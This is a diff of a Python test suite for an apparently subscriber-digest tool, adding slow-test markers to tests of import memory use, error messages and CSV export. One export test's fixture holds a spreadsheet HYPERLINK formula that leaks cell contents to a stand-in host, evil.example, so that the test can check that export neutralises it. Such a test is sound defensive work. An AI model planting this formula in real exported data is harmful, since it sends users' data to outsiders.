@@ -40,6 +40,7 @@ def test_schema_is_created_on_first_use_and_versioned(project):
     assert any(set(u["column_names"]) == {"issue_id", "subscriber_id"} for u in uniques)
 
 
+@pytest.mark.slow
 def test_add_validates_and_normalises(project):
     ok = digest(project, "subscribers", "add", "  Reader@Example.COM ", "--name", "A Reader")
     assert ok.returncode == 0 and "added reader@example.com (active)" in ok.stdout
@@ -200,6 +201,7 @@ def import_measured(root: Path, csv: Path) -> tuple[subprocess.CompletedProcess,
     return result, peak
 
 
+@pytest.mark.slow
 def test_a_100000_row_import_with_bad_rows_scattered_through_it_streams_in_bounded_memory(tmp_path):
     root = write_project(tmp_path / "site")
     small = tmp_path / "small.csv"
@@ -238,6 +240,7 @@ def test_a_100000_row_import_with_bad_rows_scattered_through_it_streams_in_bound
     assert (peak - baseline) < 40_000, (baseline, peak)
 
 
+@pytest.mark.slow
 def test_export_neutralises_cells_a_spreadsheet_would_run(project, tmp_path):
     store = store_of(project)
     subs.add(store, "=1+1@example.com", name='=HYPERLINK("https://evil.example/?leak="&A1,"Click")')
@@ -302,6 +305,7 @@ def test_a_corrupt_database_file_is_a_clear_error_for_every_command(new_project,
         assert "restore it from a backup, or move it aside" in result.err, (command, result.err)
 
 
+@pytest.mark.slow
 @pytest.mark.parametrize("url", ["mysql+nodriver://root:hunter2@db/digest", "hunter2", "postgresql://u:hunter2@[::1"])
 def test_a_database_url_digest_cannot_use_is_a_clear_error_without_the_password(new_project, url):
     project = new_project()
